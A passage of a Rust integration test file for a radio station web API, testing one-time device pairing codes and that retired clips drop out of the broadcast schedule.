    assert_eq!(status, StatusCode::OK, "{answer}");
    assert_eq!((answer["role"].as_str(), answer["label"].as_str()), (Some("operator"), Some("Chị Lan")));
    let token = answer["token"].as_str().unwrap().to_owned();
    assert_eq!(api.get("/api/v1/station", Some(&token)).await.0, StatusCode::OK);
    // Once only; and a wrong code is refused the same way.
    let (status, answer) = pair(code.clone()).await;
    assert_eq!((status, answer["error"]["code"].as_str()), (StatusCode::NOT_FOUND, Some("pairing_code_unknown")));
    assert_eq!(pair("ABCD-EFGH".into()).await.0, StatusCode::NOT_FOUND);
    // An expired code does nothing.
    let stale = loa::model::token::pairing_code().unwrap();
    let digest = loa::model::token::digest(&loa::model::token::normalise_code(&stale));
    let then = now - chrono::TimeDelta::minutes(30);
    api.state
        .store
        .call(move |s| s.create_pairing(Role::Operator, "x", &digest, then, then + chrono::TimeDelta::minutes(10)))
        .await
        .unwrap();
    assert_eq!(pair(stale).await.0, StatusCode::NOT_FOUND);
    // A client without the header may still send the code as JSON; a header of another scheme
    // is refused as such.
    let body = Body::from(serde_json::json!({ "code": "ABCD-EFGH" }).to_string());
    let (status, answer) = api.call("POST", "/api/v1/pair", None, body, Some("application/json")).await;
    assert_eq!((status, answer["error"]["code"].as_str()), (StatusCode::NOT_FOUND, Some("pairing_code_unknown")));
    let request = Request::builder().method("POST").uri("/api/v1/pair").header("authorization", "Basic ABCD-EFGH");
    let (status, answer) = api.send(request.body(Body::empty()).unwrap()).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(answer["error"]["message"].as_str().unwrap().contains("Pairing <code>"), "{answer}");
}

#[tokio::test]
async fn the_schedule_never_shows_a_queued_clip_that_was_retired() {
    let api = api("");
    let base = api.serve().await;
    for name in ["cbr128_stereo_44k.mp3", "mono_22k.mp3"] {
        let (status, _) =
            upload(&base, &api.operator, form(Some(("a.mp3", fixture(name))), &[("title", name), ("topic", "cchc")]))
                .await;
        assert_eq!(status, 201);
    }
    let body = || Body::from(r#"{"clip_id": 2, "when": "next_slot"}"#);
    let (status, _) = api.call("POST", "/api/v1/queue", Some(&api.operator), body(), Some("application/json")).await;
    assert_eq!(status, StatusCode::ACCEPTED);
    let (_, schedule) = api.get("/api/v1/schedule?days=1", Some(&api.district)).await;
    assert_eq!(schedule["slots"][0]["items"][0]["clip_id"], 2, "queued first: {schedule}");
    assert_eq!(schedule["slots"][0]["items"][0]["queued"], true);
    let (status, _) = api.call("DELETE", "/api/v1/clips/2", Some(&api.operator), Body::empty(), None).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (_, schedule) = api.get("/api/v1/schedule?days=1", Some(&api.district)).await;
    let first: Vec<i64> =
        schedule["slots"][0]["items"].as_array().unwrap().iter().map(|i| i["clip_id"].as_i64().unwrap()).collect();
    assert_eq!(first, [1], "{schedule}");
}
